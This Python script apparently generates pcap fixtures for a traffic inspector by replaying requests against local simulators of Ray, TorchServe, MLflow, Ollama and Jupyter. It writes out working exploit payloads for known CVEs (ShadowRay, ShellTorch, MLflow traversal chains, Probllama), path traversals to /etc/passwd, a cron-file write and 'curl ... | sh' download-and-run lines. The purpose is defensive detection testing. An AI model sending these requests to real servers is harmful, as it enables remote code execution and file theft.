"""Capture Ray, TorchServe, MLflow, Ollama and Jupyter API traffic on loopback.

Writes `ray.pcap`, `torchserve.pcap`, `mlflow.pcap`, `ollama.pcap` and `jupyter.pcap` next to
this script (or into `--out DIR`). None of these products' client libraries is installed here,
so the calls are made the way their SDKs / CLIs / published exploits make them, with urllib,
http.client, raw sockets (the WebSocket upgrade) and grpcio (TorchServe's gRPC management API,
message encoded with inspector.protocols.protobuf), against protocol-shaped servers
(`apisim_mlops`, `apisim_llm`): they answer like the products, they are not the products.

* ray: the job SDK's submit sequence (version, package check, package upload, submit with a
  runtime_env), job info/logs/stop/delete, a ShadowRay-style submission to the job agent, a Serve
  deployment, CVE-2023-6019's cpu_profile with a command in `format`, a state-API log read with
  a traversal filename, cluster status, and a submit whose body is not JSON.
* torchserve: ShellTorch registrations (http URL, file URL refused), scale, describe, list,
  unregister, workflow registration, a prediction, ping, and RegisterModel over gRPC.
* mlflow: the CVE-2023-1177 chain under /ajax-api (register, model version with source
  `//proc/self/root`, get-artifact `etc/passwd`), the CVE-2023-6909 / CVE-2024-1594 chain under
  /api (experiment with an `http:///#/../` artifact location, run, model version
  `file:///`), an artifact upload through the proxy, and a lookup answered 404.
* ollama: pull and push of ordinary models; a Probllama pull (`insecure: true`) from a registry
  on loopback whose manifest has a `../../` layer digest (the Ollama-shaped server fetches the
  manifest with Ollama's User-Agent: both hops are captured); create, copy, show, delete (one
  404), tags, version, blob check and upload.
* jupyter: kernel list (token in the URL) and creation, the kernel channels WebSocket upgrade,
  a session, a terminal and its page, a contents save of `.bashrc`, a contents listing.

Usage: `python pcaps/clients/make_mlops.py [--out DIR]` (root: tcpdump on lo).
"""

from __future__ import annotations

import argparse
import base64
import http.client
import json
import socket
import sys
import urllib.error
import urllib.request
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from apisim import HERE, HOST, serve, tcpdump
from apisim_llm import GOOD_DIGEST, OllamaHandler, RegistryHandler
from apisim_mlops import (
    JupyterHandler,
    MlflowHandler,
    RayHandler,
    TorchServeHandler,
    grpc_call,
    grpc_server,
)

from inspector.protocols.protobuf import encode_message

JUPYTER_TOKEN = "0123456789abcdef0123456789abcdef0123456789abcdef"  # must never reach the EVE output


def call(port: int, method: str, path: str, body: object = None, *, raw: bytes | None = None,
         headers: dict[str, str] | None = None) -> bytes:
    data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
    request = urllib.request.Request(f"http://{HOST}:{port}{path}", data=data, method=method,
                                     headers={"Content-Type": "application/json", **(headers or {})}
                                     if data is not None else dict(headers or {}))
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.read()
    except urllib.error.HTTPError as error:
        return error.read()


# --- Ray --------------------------------------------------------------------------------------------


def ray_calls(port: int) -> None:
    package = "/api/packages/gcs/_ray_pkg_5b1e1c2f3a4d5e6f.zip"
    call(port, "GET", "/api/version")
    call(port, "GET", package)
    call(port, "PUT", package, raw=b"PK\x05\x06" + b"\x00" * 18, headers={"Content-Type": "application/zip"})
    call(port, "POST", "/api/jobs/", {
        "entrypoint": "python train.py --epochs 3", "submission_id": "raysubmit_train0001",
        "runtime_env": {"working_dir": "gcs://_ray_pkg_5b1e1c2f3a4d5e6f.zip", "pip": ["torch==2.3.0", "requests"],
                        "env_vars": {"WANDB_API_KEY": "never-logged-secret", "EPOCHS": "3"}},
        "metadata": {"owner": "ml-team"}, "entrypoint_num_gpus": 1})
    call(port, "GET", "/api/jobs/raysubmit_train0001")
    call(port, "GET", "/api/jobs/raysubmit_train0001/logs")
    call(port, "POST", "/api/jobs/raysubmit_train0001/stop")
    call(port, "DELETE", "/api/jobs/raysubmit_train0001")
    call(port, "POST", "/api/job_agent/jobs/", {
        "entrypoint": "bash -c 'curl -s http://198.51.100.7/x.sh | sh'", "runtime_env": {},
        "metadata": {"job_submission_id": "shadow"}})
    call(port, "PUT", "/api/serve/applications/", {"applications": [
        {"name": "app1", "route_prefix": "/", "import_path": "fruit:deployment_graph",
         "runtime_env": {"working_dir": "https://github.com/ray-project/serve_config_examples/archive/HEAD.zip"}}]})
    call(port, "GET", "/worker/cpu_profile?pid=1&ip=127.0.0.1&duration=5&native=0&format=`touch%20/tmp/pwned`")
    call(port, "GET", "/api/v0/logs/file?node_id=abc&filename=../../../../etc/passwd&lines=2")
    call(port, "GET", "/api/cluster_status?format=1")
    call(port, "POST", "/api/jobs/", raw=b'{"entrypoint": "python x.py", ')


# --- TorchServe -------------------------------------------------------------------------------------


def torchserve_calls(port: int, grpc_port: int) -> None:
    call(port, "POST", "/models?url=http://198.51.100.7:8888/evil.mar&initial_workers=1&synchronous=true"
         "&model_name=evil")
    call(port, "POST", "/models?url=file:///etc/passwd")
    call(port, "PUT", "/models/evil?min_worker=2&max_worker=4&synchronous=false")
    call(port, "GET", "/models")
    call(port, "GET", "/models/squeezenet1_1")
    call(port, "GET", "/models/ghost")
    call(port, "DELETE", "/models/evil/1.0")
    call(port, "POST", "/workflows?url=http://198.51.100.7:8888/evil.war&workflow_name=evil")
    call(port, "POST", "/predictions/squeezenet1_1", raw=b"\xff\xd8\xff\xe0fake-jpeg",
         headers={"Content-Type": "image/jpeg"})
    call(port, "GET", "/ping")
    register = encode_message([(3, 1), (5, "evil_grpc"), (8, 1),
                               (9, "https://user:hunter2@198.51.100.7/models/evil.mar?X-Amz-Signature=abc123")])
    grpc_call(grpc_port, "/org.pytorch.serve.grpc.management.ManagementAPIsService/RegisterModel", register)


# --- MLflow -----------------------------------------------------------------------------------------


def mlflow_calls(port: int) -> None:
    ajax = "/ajax-api/2.0/mlflow"
    call(port, "POST", f"{ajax}/registered-models/create", {"name": "cve_2023_1177"})
    call(port, "POST", f"{ajax}/model-versions/create", {"name": "cve_2023_1177", "source": "//proc/self/root"})
    call(port, "GET", "/model-versions/get-artifact?path=etc/passwd&name=cve_2023_1177&version=1")
    api = "/api/2.0/mlflow"
    call(port, "POST", f"{api}/experiments/create", {"name": "exp_6909",
                                                     "artifact_location": "http:///#/../../../../../../../../etc/"})
    run = json.loads(call(port, "POST", f"{api}/runs/create", {"experiment_id": "1", "start_time": 1767225600000}))
    run_id = run["run"]["info"]["run_id"]
    call(port, "POST", f"{api}/model-versions/create", {"name": "cve_2023_1177", "source": "file:///",
                                                        "run_id": run_id})
    call(port, "GET", f"/get-artifact?path=passwd&run_uuid={run_id}")
    call(port, "PUT", f"/api/2.0/mlflow-artifacts/artifacts/1/{run_id}/artifacts/model/model.pkl",
         raw=b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.",
         headers={"Content-Type": "application/octet-stream"})
    call(port, "GET", f"{api}/registered-models/get?name=does-not-exist")


# --- Ollama -----------------------------------------------------------------------------------------


def ollama_calls(port: int, registry_port: int) -> None:
    call(port, "POST", "/api/pull", {"model": "llama3.2:1b"})
    call(port, "POST", "/api/pull", {"model": f"{HOST}:{registry_port}/library/evil:latest", "insecure": True})
    call(port, "POST", "/api/push", {"model": "registry.example.com/team/llama3:ft", "stream": False})
    call(port, "POST", "/api/create", {"model": "mario", "from": "llama3.2",
                                       "files": {"adapter.gguf": GOOD_DIGEST}, "system": "You are Mario."})
    call(port, "POST", "/api/create", {"name": "legacy", "modelfile": "FROM /etc/passwd\nTEMPLATE {{ .Prompt }}"})
    call(port, "POST", "/api/copy", {"source": "llama3.2", "destination": "llama3-backup"})
    call(port, "POST", "/api/show", {"model": "llama3.2"})
    call(port, "DELETE", "/api/delete", {"model": "llama3-backup"})
    call(port, "DELETE", "/api/delete", {"model": "missing-model"})
    call(port, "GET", "/api/tags")
    call(port, "GET", "/api/version")
    call(port, "HEAD", f"/api/blobs/{GOOD_DIGEST}")
    call(port, "POST", "/api/blobs/sha256:..%2F..%2F..%2Fetc%2Fcron.d%2Fx", raw=b"* * * * * root id\n",
         headers={"Content-Type": "application/octet-stream"})


# --- Jupyter ----------------------------------------------------------------------------------------


def jupyter_calls(port: int) -> None:
    call(port, "GET", f"/api/kernels?token={JUPYTER_TOKEN}")
    kernel = json.loads(call(port, "POST", "/api/kernels", {"name": "python3"}))
    with socket.create_connection((HOST, port), timeout=10) as sock:  # the kernel channels WebSocket
        key = base64.b64encode(b"apisim-ws-key-01").decode()
        sock.sendall(f"GET /api/kernels/{kernel['id']}/channels?session_id=s1 HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
                     f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                     "Sec-WebSocket-Version: 13\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = sock.recv(4096)
            if not chunk:
                break
            head += chunk
    call(port, "POST", "/api/sessions", {"path": "Untitled.ipynb", "name": "Untitled.ipynb", "type": "notebook",
                                         "kernel": {"name": "python3"}},
         headers={"Authorization": f"token {JUPYTER_TOKEN}"})
    call(port, "POST", "/api/terminals")
    call(port, "GET", "/terminals/1")
    call(port, "PUT", "/api/contents/.bashrc", {"type": "file", "format": "text",
                                               "content": "curl -s http://198.51.100.7/x | sh\n"})
    connection = http.client.HTTPConnection(HOST, port, timeout=10)
    connection.request("GET", "/api/contents/work%20dir", headers={"Cookie": "username-127-0-0-1=abc; _xsrf=x"})
    connection.getresponse().read()
    connection.close()


def make(out_dir: Path) -> list[Path]:
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    with serve(RayHandler, 8265) as port:
        pcap = out_dir / "ray.pcap"
        with tcpdump(pcap, [port]):
            ray_calls(port)
        written.append(pcap)
    with serve(TorchServeHandler, 8081) as port, grpc_server(
            {"org.pytorch.serve.grpc.management.ManagementAPIsService": ["RegisterModel"]}) as grpc_port:
        pcap = out_dir / "torchserve.pcap"
        with tcpdump(pcap, [port, grpc_port]):
            torchserve_calls(port, grpc_port)
        written.append(pcap)
    with serve(MlflowHandler, 5000) as port:
        pcap = out_dir / "mlflow.pcap"
        with tcpdump(pcap, [port]):
            mlflow_calls(port)
        written.append(pcap)
    with serve(OllamaHandler, 11434) as port, serve(RegistryHandler, 5005) as registry_port:
        pcap = out_dir / "ollama.pcap"
        with tcpdump(pcap, [port, registry_port]):
            ollama_calls(port, registry_port)
        written.append(pcap)
    with serve(JupyterHandler, 8888) as port:
        pcap = out_dir / "jupyter.pcap"
        with tcpdump(pcap, [port]):
            jupyter_calls(port)
        written.append(pcap)
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=Path, default=HERE, help="directory for the pcaps (default: beside this script)")
    for path in make(parser.parse_args().out):
        print(f"{path} {path.stat().st_size} bytes")


if __name__ == "__main__":
    main()
